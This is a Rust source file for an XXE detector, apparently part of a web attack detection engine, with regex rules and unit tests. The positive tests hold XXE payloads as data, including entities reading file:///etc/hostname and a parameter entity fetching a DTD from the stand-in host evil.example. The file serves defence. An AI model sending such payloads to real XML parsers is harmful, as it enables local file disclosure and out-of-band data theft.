//! XML external entities: entity declarations that load a URI, parameter entities,
//! XInclude, and markup in a parameter that names a remote schema.

use super::rules::{any_leaf, Rule, RuleDetector};
use super::AttackType;

pub fn detector() -> RuleDetector {
    RuleDetector {
        attack: AttackType::Xxe,
        rules: vec![
            // The `<` is optional: a declaration whose `<` a filter removed is still one.
            Rule::new(
                &["!entity"],
                r"<?!entity\s+(?:%\s+)?[^\s>]+\s+(?:system|public)\b",
                "external entity",
            ),
            Rule::new(&["<!entity"], r"<!entity\s+%", "parameter entity"),
            Rule::new(
                &["xinclude", "xi:include"],
                r"<\s*xi:include\b|xmlns:xi\s*=\s*.http://www\.w3\.org/2001/xinclude",
                "xinclude",
            ),
            // Markup inside a parameter that names a remote schema: a validating parser
            // fetches it (out-of-band probes use a unique host per request). XML bodies are
            // split into attribute leaves by the extractor, so real documents never match.
            Rule::new(
                &["schemalocation"],
                r#"<[a-z][^>]*\bxsi:(?:nonamespace)?schemalocation\s*=\s*["']?[^"'>]*\b(?:https?|ftp|file)://"#,
                "remote xml schema",
            ),
            Rule::new(
                &["<!doctype"],
                r"<!doctype\s+[^>\[]*\s(?:system|public)\s+['\x22][^'\x22]*(?:file:|https?:|ftp:|php:|expect:|jar:|gopher:)",
                "external dtd",
            ),
        ],
        applies: any_leaf,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        crate::detect::check_one(&detector(), v).is_some()
    }

    #[test]
    fn finds_external_entities() {
        for v in [
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>",
            "<!ENTITY % p PUBLIC \"x\" \"http://evil.example/p.dtd\">",
            "x!ENTITY % q SYSTEM",
            "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"http://oob.example/r.xsd\"/>",
            "<xi:include href=\"file:///etc/hostname\"/>",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    #[test]
    fn ignores_plain_xml_and_prose() {
        for v in [
            "<!DOCTYPE html><p>entity system</p>",
            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
            "the entity system is public",
            "!entity",
            "set xsi:schemaLocation to the schema URL",
        ] {
            assert!(!hit(v), "{v}");
        }
    }
}
